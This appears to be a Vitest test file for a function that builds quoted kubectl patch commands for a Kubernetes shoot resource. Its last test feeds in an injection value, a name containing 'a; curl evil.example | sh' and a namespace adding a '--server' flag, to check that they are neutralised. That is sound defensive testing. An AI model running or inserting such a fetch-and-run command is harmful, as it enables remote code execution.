import { expect, test } from 'vitest'
import { patchCommand } from './side'

const shoot = { namespace: 'garden-payments', name: 'checkout-prod' }
const advice = { kind: 'do' as const, title: '', text: '' }

test.each([
  [
    { patch: '{"spec":{}}', patchType: 'merge' as const },
    `kubectl -n garden-payments patch shoot checkout-prod --type merge -p '{"spec":{}}'`,
  ],
  [
    { patch: `[{"op":"it's"}]`, patchType: 'json' as const },
    `kubectl -n garden-payments patch shoot checkout-prod --type json -p '[{"op":"it'\\''s"}]'`,
  ],
  [{ patch: null, patchType: null }, null],
])('%o', (patch, command) => {
  expect(patchCommand({ ...advice, ...patch }, shoot)).toBe(command)
})

test('a name that a shell would run is one word of the command', () => {
  const hostile = { namespace: '--server=https://evil.example', name: 'a; curl evil.example | sh\n' }
  expect(patchCommand({ ...advice, patch: '{}', patchType: 'merge' }, hostile)).toBe(
    `kubectl -n server=https://evil.example patch shoot 'a; curl evil.example | sh' --type merge -p '{}'`,
  )
})
